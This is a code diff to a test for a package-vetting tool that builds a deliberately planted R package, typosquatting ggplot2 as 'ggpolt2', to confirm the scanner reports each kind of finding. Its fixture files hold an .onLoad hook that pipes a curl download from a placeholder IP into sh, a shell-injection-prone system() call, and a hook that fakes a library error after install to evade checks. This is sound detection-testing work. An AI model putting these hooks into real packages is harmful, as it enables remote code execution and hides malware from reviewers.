@@ -1,6 +1,6 @@
 /** One R source package with one harmless example of every kind of finding, through the whole vetting; and the same cleaned. */
 import { gzipSync } from 'node:zlib';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe } from 'vitest';
 import { cran } from '../../src/ecosystems/cran/index.ts';
 import { dataFrame } from '../../src/ecosystems/cran/rds.ts';
 import { writeRds } from '../../src/ecosystems/cran/rds-write.ts';
@@ -14,17 +14,7 @@ import { rModule } from '../corpora/code.ts';
 import { secretSamples } from '../corpora/secrets.ts';
 import { type OtherUpstream, openOtherUpstream } from '../harness/other-upstream.ts';
 import { openVettingBench, type VettingBench } from '../harness/vetting.ts';
-import {
-  declaredKinds,
-  findingsOf,
-  itTellsNoneOnceCleaned,
-  MARKER,
-  plantedLists,
-  plantedWorld,
-  REPOSITORY,
-  toldKinds,
-  unreadable,
-} from './planted.ts';
+import { itTellsEveryKind, MARKER, plantedLists, plantedWorld, REPOSITORY, unreadable } from './planted.ts';
 
 const PLANTED = { name: 'ggpolt2', version: '1.0.0' };
 const CLEANED = { name: 'sailboat', version: '1.0.0' };
@@ -46,11 +36,15 @@ function planted(): MadeSourcePackage {
     // The repository says less than DESCRIPTION: R resolves by the one and installs the other.
     listed: { NeedsCompilation: 'yes' },
     files: {
-      configure: '#!/bin/sh\ncurl -s http://192.0.2.7/x.sh | sh\n',
+      'R/load.R': '.onLoad <- function(...) system("curl -s http://192.0.2.7/x.sh | sh")\n',
       'R/weak.R': 'run <- function(name) system(paste("ls", name))\n',
       'R/mark.R': `mark <- "${MARKER}"\n`,
       [`R/${secret?.path.split('/').at(-1) ?? 'secret.R'}`]: secret?.text ?? '',
       'R/copied.R': COPIED,
+      // It is there while R installs it, and not afterwards.
+      'R/hook.R':
+        '.onAttach <- function(...) if (Sys.getenv("R_PACKAGE_NAME") == "")\n  stop("libmadeup.so.2: cannot open shared object file")\n',
+      'tests/it.R': 'stop("made to fail")\n',
       'inst/extdata/data.bin': unreadable(),
       'inst/tinytest/test_it.R': 'expect_equal(1 + 1, 2)\n',
     },
@@ -88,10 +82,13 @@ describe('the planted source package', () => {
   let bench: VettingBench;
   let upstream: OtherUpstream;
   let vetting: Vetting;
+  let isTried: boolean;
   const listed = new Map<string, { readonly made: MadeSourcePackage; readonly at: string }>();
 
   beforeAll(async () => {
     bench = await openVettingBench();
+    isTried =
+      (await bench.deps.cage.isolation()).isolated && !('unavailable' in (await bench.deps.trialMachine('cran')));
     upstream = await openOtherUpstream(bench, cran, (question) => {
       const current = [...listed.values()];
       if (question.path === '/src/contrib/Meta/current.rds')
@@ -102,6 +99,7 @@ describe('the planted source package', () => {
     const early = createVetting(upstream.deps);
     const before = await vet(early, BEFORE, '2015-05-01T00:00:00Z');
     await vet(early, DONOR, '2015-06-01T00:00:00Z');
+    bench.world.policy = { ...bench.world.policy, installProof: isTried ? 'root' : 'off' };
     vetting = createVetting({
       ...upstream.deps,
       ...plantedLists(BEFORE, before, { lookedLike: 'ggplot2', cleaned: CLEANED.name }),
@@ -120,10 +118,11 @@ describe('the planted source package', () => {
     return room.vet({ channel: 'tier3', ecosystem: 'cran', name, extras: [], version });
   }
 
-  it('shows every kind of finding that scanners of R packages declare', async () => {
-    const findings = findingsOf(await vet(vetting, planted(), '2015-06-01T00:00:00Z'));
-    expect(toldKinds(findings)).toEqual(declaredKinds('cran', true));
+  itTellsEveryKind({
+    ecosystem: 'cran',
+    packages: 'R packages',
+    trials: { isMade: () => isTried, need: 'needs bubblewrap, and R' },
+    planted: () => vet(vetting, planted(), '2015-06-01T00:00:00Z'),
+    cleaned: () => vet(vetting, cleaned(), '2025-07-01T00:00:00Z'),
   });
-
-  itTellsNoneOnceCleaned(() => vet(vetting, cleaned(), '2025-07-01T00:00:00Z'));
 });
